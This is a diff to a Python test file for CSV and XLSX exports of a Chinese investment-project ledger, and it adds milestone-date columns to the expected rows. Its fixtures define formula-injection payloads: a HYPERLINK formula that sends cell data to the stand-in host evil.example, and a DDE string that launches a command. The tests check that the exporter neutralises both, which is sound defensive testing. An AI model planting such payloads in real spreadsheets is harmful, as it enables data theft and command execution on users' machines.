@@ -15,7 +15,7 @@ from service import exports
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 EVIL_INVESTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
 ITEM_HEADERS = ["项目编号", "外部编号", "项目名称", "产业链", "区", "投资方", "计划投资(万元)", "重点项目", "重大项目",
-                "阶段", "日期"]
+                "阶段", "日期", "签约日期", "开工日期", "投产日期", "达产日期", "终止日期"]
 XLSX_SHEETS = ["新签约", "新开工", "新投产", "新达产"]
 
 
@@ -126,13 +126,16 @@ def test_ledger_csv(client, admin, projects):
     rows = parse_csv(r.content)
     assert rows[0] == ["清单", *ITEM_HEADERS]
     x1, x2, x3 = (projects[k]["id"] for k in ("X1", "X2", "X3"))
+    # Every row carries all milestone dates and the cancellation date besides its list's 日期 (SPEC §3).
     assert rows[1:] == [
-        ["新签约", x3, "", "已终止项目", "AUTO", "JA", "某投资方", "20000.00", "否", "是", "终止", "2026-01-10"],
+        ["新签约", x3, "", "已终止项目", "AUTO", "JA", "某投资方", "20000.00", "否", "是", "终止", "2026-01-10",
+         "2026-01-10", "", "", "", "2026-04-20"],
         ["新签约", x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, "12500.50", "是", "是", "已开工",
-         "2026-04-02"],
-        ["新签约", x2, "", "普通项目", "AUTO", "HS", "某投资方", "800.00", "否", "否", "已签约", "2026-04-03"],
+         "2026-04-02", "2026-04-02", "2026-05-06", "", "", ""],
+        ["新签约", x2, "", "普通项目", "AUTO", "HS", "某投资方", "800.00", "否", "否", "已签约", "2026-04-03",
+         "2026-04-03", "", "", "", ""],
         ["新开工", x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, "12500.50", "是", "是", "已开工",
-         "2026-05-06"],
+         "2026-05-06", "2026-04-02", "2026-05-06", "", "", ""],
     ]
 
 
@@ -147,10 +150,14 @@ def test_ledger_xlsx(client, admin, projects):
     x1, x2 = projects["X1"]["id"], projects["X2"]["id"]
     assert sheets["新签约"][1:] == [
         (x1, "'-1+1", "'" + EVIL_NAME, "OPTICS", "JA", "'" + EVIL_INVESTOR, 12500.5, "是", "是", "已开工",
-         datetime(2026, 4, 2)),
-        (x2, None, "普通项目", "AUTO", "HS", "某投资方", 800, "否", "否", "已签约", datetime(2026, 4, 3)),
+         datetime(2026, 4, 2), datetime(2026, 4, 2), datetime(2026, 5, 6), None, None, None),
+        (x2, None, "普通项目", "AUTO", "HS", "某投资方", 800, "否", "否", "已签约", datetime(2026, 4, 3),
+         datetime(2026, 4, 3), None, None, None, None),
     ]
     assert [row[0] for row in sheets["新开工"][1:]] == [x1]
+    assert sheets["新开工"][1][10:] == (datetime(2026, 5, 6), datetime(2026, 4, 2), datetime(2026, 5, 6), None, None,
+                                       None)
+    assert book["新签约"]["L2"].is_date and book["新签约"]["L2"].number_format == "yyyy-mm-dd"
     assert len(sheets["新投产"]) == len(sheets["新达产"]) == 1  # headers only
     name_cell = book["新签约"]["C2"]
     assert name_cell.data_type == "s" and name_cell.value.startswith("'=")  # text, never a formula
